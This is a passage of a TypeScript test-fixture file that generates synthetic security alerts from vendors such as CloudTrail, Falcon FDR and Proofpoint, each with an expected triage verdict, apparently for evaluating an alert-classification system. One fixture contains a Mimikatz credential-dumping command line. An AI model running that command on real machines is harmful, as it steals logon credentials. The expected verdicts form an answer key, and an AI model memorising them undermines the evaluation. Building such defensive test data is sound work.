      const d = r.pick(['salesforce.com', 'atlassian.net', 'zoom.us']);
      const u = person(r, t);
      return {
        source: 'mailguard',
        note: 'bulk newsletter from a trusted SaaS vendor misfiled as phishing',
        expected: { classification: 'benign', incident_type: 'phishing' },
        intel: [goodDomain(d)],
        payload: {
          alert_type: 'phishing',
          severity: 'low',
          title: 'Possible phishing: bulk sender',
          description: 'Heuristic match on a marketing template.',
          timestamp: r.time(),
          data: { sender: `news@${d}`, recipient: u.email, url: `https://www.${d}/events` },
        },
      };
    },
  ],
  [
    'unusual-outbound',
    2,
    (r) => {
      const ip = unknownIp(r);
      return {
        source: 'netwatch',
        note: 'unusual outbound traffic to an address nobody knows',
        expected: { classification: 'inconclusive' },
        payload: {
          alert_type: 'network',
          severity: 'medium',
          title: 'Unusual outbound traffic',
          description: 'Traffic volume above baseline.',
          timestamp: r.time(),
          data: {
            src_ip: `10.${r.int(0, 40)}.${r.int(0, 255)}.${r.int(2, 254)}`,
            dest_ip: ip,
            dest_port: r.pick([443, 8080, 8443]),
          },
        },
      };
    },
  ],
  [
    'edr-malware',
    1,
    (r, t) => {
      const h = sha256(r);
      return {
        source: 'sentinelone',
        note: 'third-party EDR: file is a known backdoor',
        expected: { classification: 'malicious', incident_type: 'malware' },
        intel: [badHash(h, 'Cobalt Strike beacon')],
        payload: {
          alert_type: 'malware',
          severity: 'high',
          title: 'Malicious file detected',
          description: 'Threat detected and quarantined.',
          timestamp: r.time(),
          data: { hostname: host(r, t), sha256: h, file_path: `C:\\ProgramData\\${r.hex(6)}.exe` },
        },
      };
    },
  ],
];

export const MANUAL: Array<[string, number, Scenario]> = [
  [
    'reported-phish',
    2,
    (r, t) => {
      const d = r.pick(BAD_DOMAINS);
      const u = person(r, t);
      return {
        source: 'manual',
        note: 'user-reported phish whose link is on a phishing list',
        expected: { classification: 'malicious', incident_type: 'phishing' },
        intel: [badDomain(d)],
        payload: {
          incident_type: 'phishing',
          source: 'user-report',
          severity: 'medium',
          title: 'User reported a credential phishing email',
          description: `${u.name} forwarded an email asking to re-validate the mailbox.`,
          indicators: [
            { type: 'url', value: `hxxps://${d.replace('.', '[.]')}/owa` },
            { type: 'email', value: `IT-Support@${d}` },
          ],
          occurred_at: r.time(),
          tags: ['reported-by-user'],
        },
      };
    },
  ],
  [
    'reported-legit',
    2,
    (r, t) => {
      const d = r.pick(['docusign.net', 'salesforce.com', 'workday.com']);
      const u = person(r, t);
      return {
        source: 'manual',
        note: 'user reported a genuine notification from a trusted vendor',
        expected: { classification: 'benign', incident_type: 'phishing' },
        intel: [goodDomain(d)],
        payload: {
          incident_type: 'phishing',
          source: 'user-report',
          severity: 'low',
          title: 'User reported a suspicious email',
          description: `${u.name} was unsure about a notification.`,
          indicators: [
            { type: 'url', value: `https://www.${d}/notifications` },
            { type: 'email', value: `noreply@${d}` },
          ],
          occurred_at: r.time(),
        },
      };
    },
  ],
  [
    'reported-call',
    1,
    (r, t) => {
      const u = person(r, t);
      return {
        source: 'manual',
        note: 'user reports an odd phone call: nothing to check',
        expected: { classification: 'inconclusive' },
        payload: {
          incident_type: 'other',
          source: 'user-report',
          severity: 'medium',
          title: 'Suspicious phone call claiming to be IT',
          description: `${u.name} got a call asking for an MFA code; did not give it.`,
          indicators: [],
          occurred_at: r.time(),
        },
      };
    },
  ],
];

/** Vendor events with no dedicated parser, posted raw (docs/VENDOR-EVENTS.md). */
export const UNKNOWN_VENDOR: Array<[string, number, Scenario]> = [
  [
    'cloudtrail-login-bad',
    1,
    (r, t) => {
      const ip = badIp(r);
      const u = person(r, t);
      return {
        source: 'cloudtrail',
        note: 'AWS console login from a listed address',
        expected: { classification: 'malicious', incident_type: 'suspicious_login' },
        intel: [badIpIntel(ip)],
        payload: {
          eventVersion: '1.09',
          userIdentity: {
            type: 'IAMUser',
            principalId: `AIDA${r.hex(16).toUpperCase()}`,
            arn: `arn:aws:iam::${r.int(1e11, 9e11)}:user/${u.first}`,
            userName: u.first,
          },
          eventTime: r.time(),
          eventSource: 'signin.amazonaws.com',
          eventName: 'ConsoleLogin',
          awsRegion: 'us-east-1',
          sourceIPAddress: ip,
          userAgent: 'Mozilla/5.0',
          responseElements: { ConsoleLogin: 'Success' },
          additionalEventData: { MFAUsed: 'No' },
          eventID: r.uuid(),
          eventType: 'AwsConsoleSignIn',
        },
      };
    },
  ],
  [
    'cloudtrail-routine',
    2,
    (r, t) => {
      const ip = corpIp(r, t);
      const u = person(r, t);
      return {
        source: 'cloudtrail',
        note: 'routine read-only API call from the office',
        expected: { classification: 'benign' },
        intel: [corpEgress(t)],
        payload: {
          eventVersion: '1.09',
          userIdentity: { type: 'IAMUser', userName: u.first },
          eventTime: r.time(),
          eventSource: 'ec2.amazonaws.com',
          eventName: r.pick(['DescribeInstances', 'ListBuckets']),
          awsRegion: 'eu-west-1',
          sourceIPAddress: ip,
          userAgent: 'aws-cli/2.15.0',
          eventID: r.uuid(),
          readOnly: true,
          eventType: 'AwsApiCall',
        },
      };
    },
  ],
  [
    'fdr-mimikatz',
    1,
    (r, t) => {
      const h = sha256(r);
      const u = person(r, t);
      return {
        source: 'falcon-fdr',
        note: 'FDR process event: known credential-theft tool',
        expected: { classification: 'malicious', incident_type: 'malware' },
        intel: [badHash(h, 'Mimikatz')],
        payload: {
          event_simpleName: 'ProcessRollup2',
          name: 'ProcessRollup2V19',
          id: r.uuid(),
          aid: r.hex(32),
          cid: r.hex(32),
          event_platform: 'Win',
          timestamp: String(Date.parse(r.time())),
          ImageFileName: '\\Device\\HarddiskVolume3\\Users\\Public\\m64.exe',
          CommandLine: 'm64.exe "sekurlsa::logonpasswords" exit',
          SHA256HashData: h,
          UserName: `CORP\\${u.first}`,
          ComputerName: host(r, t),
        },
      };
    },
  ],
  [
    'fdr-dns-bad',
    1,
    (r) => {
      const d = `cdn.${r.pick(BAD_DOMAINS)}`;
      return {
        source: 'falcon-fdr',
        note: 'workstation resolves a listed C2 domain',
        expected: { classification: 'malicious', incident_type: 'malware' },
        intel: [{ type: 'domain', value: d.slice(4), verdict: 'malicious', list: 'c2-domains' }],
        payload: {
          event_simpleName: 'DnsRequest',
          name: 'DnsRequestV4',
          id: r.uuid(),
          aid: r.hex(32),
          cid: r.hex(32),
          event_platform: 'Win',
          timestamp: String(Date.parse(r.time())),
          DomainName: d,
          RequestType: '1',
        },
      };
    },
  ],
  [
    'proofpoint-click',
    3,
    (r, t, n) => {
      const u = person(r, t);
      const d = n === 0 ? r.pick(BAD_DOMAINS) : r.pick(GOOD_DOMAINS);
      return {
        source: 'proofpoint-tap',
        note: n === 0 ? 'user clicked a link to a listed phishing domain' : 'click to a trusted site',
        expected: { classification: n === 0 ? 'malicious' : 'benign', incident_type: 'phishing' },
        intel: [n === 0 ? badDomain(d) : goodDomain(d)],
        payload: {
          id: r.uuid(),
          classification: n === 0 ? 'phish' : 'spam',
          clickIP: corpIp(r, t),
          clickTime: r.time(),
          messageID: `<${r.hex(20)}@mail.${d}>`,
          recipient: u.email,
          sender: `info@${d}`,
          senderIP: unknownIp(r),
          threatID: r.hex(64),
          threatStatus: 'active',
          threatURL: `https://threatinsight.proofpoint.com/${r.uuid()}`,
          url: `https://${d}/${r.hex(6)}`,
          userAgent: 'Mozilla/5.0',
          category: n === 0 ? 'phishing' : 'spam',
        },
      };
    },
  ],
  [
    'zscaler-blocked',
    1,
    (r) => {
      const d = r.pick(BAD_DOMAINS);
      return {
        source: 'zscaler',
        note: 'proxy blocked a download from a listed malware domain',
        expected: { classification: 'malicious', incident_type: 'malware' },
        intel: [badDomain(d)],
        payload: {
          datetime: r.time(),
          action: 'Blocked',
          urlcategory: 'Malicious Content',
          threatname: 'Win32.Trojan.Agent',
          url: `${d}/files/${r.hex(8)}.zip`,
          hostname: d,
          clientip: `10.${r.int(0, 40)}.${r.int(0, 255)}.${r.int(2, 254)}`,
          login: 'user@corp',
          severity: 'High',
          category: 'malware',
        },
      };
    },
  ],
  [
    'unknown-event',
    2,
    (r) => {
      return {
        source: 'netflow-collector',
        note: 'a medium event about an unknown address, nothing else',
        expected: { classification: 'inconclusive' },
        payload: {
          event_type: 'flow_anomaly',
          severity: 'medium',
          src_addr: unknownIp(r),
          dst_addr: `10.${r.int(0, 40)}.${r.int(0, 255)}.${r.int(2, 254)}`,
          bytes: r.int(1e6, 9e8),
          first_seen: r.time(),
        },
      };
    },
  ],
];
